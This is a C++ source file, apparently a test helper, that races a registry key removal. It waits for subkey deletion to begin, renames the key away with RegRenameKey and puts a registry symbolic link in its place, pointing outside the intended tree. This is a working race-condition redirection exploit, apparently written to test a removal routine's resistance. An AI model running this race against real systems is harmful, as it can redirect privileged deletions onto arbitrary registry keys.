// Another program racing a removal, as any program of the same user may:
// it waits until the removal has begun deleting the subkeys of one key,
// renames that key away (RegRenameKey) and puts in its place a registry
// link to a key outside the control's trees.
//
// usage: key_racer HIVE PATH TARGET
//   HIVE    HKLM or HKCU
//   PATH    the key raced for, below the hive, as the 64-bit view names it
//           (the 32-bit view's classes below Wow6432Node)
//   TARGET  the link's target as the registry names it (\Registry\Machine\...)
// Prints "watching N" once it holds the key and its count of subkeys N, then
// "swapped" once the link is in place (exit 0), or "late" where the key went
// before any of its subkeys did (exit 2).
#include <windows.h>

#include <cstdio>
#include <string>

namespace {

std::wstring Wide(const char* text)
{
    std::wstring wide;
    for (; *text != '\0'; ++text)
        wide += static_cast<wchar_t>(static_cast<unsigned char>(*text));
    return wide;
}

typedef LONG(WINAPI* RenameKeyCall)(HKEY key, LPCWSTR subkey, LPCWSTR newName);

int Fail(const char* what, LONG code)
{
    std::printf("failed: %s (%ld)\n", what, static_cast<long>(code));
    return 1;
}

}  // namespace

int main(int argc, char** argv)
{
    if (argc != 4)
        return Fail("usage: key_racer HIVE PATH TARGET", 0);
    const HKEY hive = std::string(argv[1]) == "HKCU" ? HKEY_CURRENT_USER : HKEY_LOCAL_MACHINE;
    const std::string path = argv[2];
    const REGSAM view = KEY_WOW64_64KEY;
    const std::wstring target = Wide(argv[3]);
    const size_t cut = path.rfind('\\');
    const std::wstring parentPath = Wide(path.substr(0, cut).c_str());
    const std::wstring name = Wide(path.substr(cut + 1).c_str());
    const RenameKeyCall rename = reinterpret_cast<RenameKeyCall>(
        reinterpret_cast<void (*)()>(GetProcAddress(GetModuleHandleA("advapi32.dll"), "RegRenameKey")));
    if (rename == nullptr)
        return Fail("no RegRenameKey", 0);

    HKEY parent;
    LONG code = RegOpenKeyExW(hive, parentPath.c_str(), 0, KEY_ALL_ACCESS | KEY_CREATE_LINK | view, &parent);
    if (code != ERROR_SUCCESS)
        return Fail("open the parent", code);
    HKEY watched;
    code = RegOpenKeyExW(parent, name.c_str(), 0, KEY_READ | view, &watched);
    if (code != ERROR_SUCCESS)
        return Fail("open the key", code);
    DWORD first = 0;
    code = RegQueryInfoKeyW(watched, nullptr, nullptr, nullptr, &first, nullptr, nullptr, nullptr, nullptr, nullptr,
                            nullptr, nullptr);
    if (code != ERROR_SUCCESS || first == 0)
        return Fail("count its subkeys", code);
    std::printf("watching %lu\n", static_cast<unsigned long>(first));
    std::fflush(stdout);

    // As soon as the first subkey goes, the removal holds the key open.
    const DWORD deadline = GetTickCount() + 120000;
    for (;;) {
        DWORD now = first;
        code = RegQueryInfoKeyW(watched, nullptr, nullptr, nullptr, &now, nullptr, nullptr, nullptr, nullptr,
                                nullptr, nullptr, nullptr);
        if (code != ERROR_SUCCESS) {
            std::printf("late\n");
            return 2;
        }
        if (now < first)
            break;
        if (GetTickCount() > deadline)
            return Fail("no deletion began", 0);
    }
    // A name that sorts after every sibling: Wine 8's RegRenameKey leaves
    // the parent's list of subkeys corrupt (one entry twice, a sibling
    // lost) where the new name falls between two of them.
    const std::wstring moved = L"ZZ." + name + L".moved";
    code = rename(parent, name.c_str(), moved.c_str());
    if (code != ERROR_SUCCESS)
        return Fail("rename the key", code);
    HKEY link;
    code = RegCreateKeyExW(parent, name.c_str(), 0, nullptr, REG_OPTION_CREATE_LINK,
                           KEY_ALL_ACCESS | KEY_CREATE_LINK | view, nullptr, &link, nullptr);
    if (code != ERROR_SUCCESS)
        return Fail("make the link", code);
    code = RegSetValueExW(link, L"SymbolicLinkValue", 0, REG_LINK, reinterpret_cast<const BYTE*>(target.data()),
                          static_cast<DWORD>(target.size() * sizeof(wchar_t)));
    RegCloseKey(link);
    RegCloseKey(watched);
    RegCloseKey(parent);
    if (code != ERROR_SUCCESS)
        return Fail("aim the link", code);
    std::printf("swapped\n");
    return 0;
}
